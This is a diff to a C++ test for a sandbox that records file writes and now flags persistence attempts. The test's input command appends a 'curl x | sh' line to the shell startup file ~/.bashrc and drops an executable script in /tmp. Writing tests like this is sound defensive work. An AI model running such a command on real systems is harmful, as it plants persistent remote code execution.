@@ -240,7 +240,10 @@ TEST_CASE("writes to the throwaway home and /tmp are recorded, persistence flagg
   auto run = s.run({"/bin/sh", "-c",
                     "echo 'curl x | sh' >> \"$HOME/.bashrc\" && printf '#!/bin/sh\\n' > "
                     "/tmp/processor.sh && chmod +x /tmp/processor.sh"});
-  REQUIRE(run.exit_code() == 0);
+  // Nothing reached the project, but the plant is a finding: the run is held as suspicious.
+  REQUIRE(run.exit_code() == 121);
+  REQUIRE(run.report.at("findings").size() == 1);
+  CHECK(run.report.at("findings").at(0).at("kind") == "persistence");
   CHECK_FALSE(path_exists(s.home() + "/.bashrc"));
   const auto& files = run.report.at("files");
   auto find = [](const nlohmann::json& list, const std::string& path) {
